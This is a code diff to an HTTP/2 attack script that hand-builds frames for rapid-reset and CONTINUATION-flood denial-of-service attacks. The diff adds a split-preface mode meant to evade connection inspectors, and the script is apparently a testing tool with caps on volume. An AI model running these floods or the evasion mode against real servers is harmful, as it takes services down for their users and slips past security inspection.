@@ -1,11 +1,15 @@
 #!/usr/bin/python3
-"""h2attack.py rapid-reset|continuation-flood HOST PORT [N]
+"""h2attack.py rapid-reset|continuation-flood|split-preface HOST PORT [N]
 
 A raw-frame HTTP/2 attacker for tests: builds frames by hand (HPACK literal
 headers without indexing, no Huffman) and sends them to a real server.
   rapid-reset:        N x (HEADERS with END_STREAM, then RST_STREAM CANCEL)
   continuation-flood: one HEADERS without END_HEADERS, then N CONTINUATION
                       frames of junk headers, never ending the block
+  split-preface:      the preface's first 3 bytes alone, then after a pause
+                      the rest and N requests for /index.html?split=I (a
+                      server waits for the whole preface; an inspector
+                      judging the connection by its first read must too)
 Bounded: N <= 100000, 10 s socket timeout."""
 import socket
 import struct
@@ -43,8 +47,20 @@ def main():
     mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
     n = min(int(sys.argv[4]) if len(sys.argv) > 4 else 200, 100000)
     s = socket.create_connection((host, port), timeout=10)
-    s.sendall(PREFACE + frame(0x4, 0, 0))  # empty SETTINGS
     hb = request_block(host.encode())
+    if mode == "split-preface":
+        s.sendall(PREFACE[:3])
+        time.sleep(0.3)  # the server reads "PRI" on its own
+        out = [PREFACE[3:], frame(0x4, 0, 0)]
+        for i in range(min(n, 100)):
+            path = b"/index.html?split=%d" % i
+            out.append(frame(0x1, 0x5, 1 + 2 * i, request_block(host.encode(), path)))
+        s.sendall(b"".join(out))
+        time.sleep(0.3)
+        drain(s)
+        s.close()
+        return
+    s.sendall(PREFACE + frame(0x4, 0, 0))  # empty SETTINGS
     if mode == "rapid-reset":
         out = []
         for i in range(n):
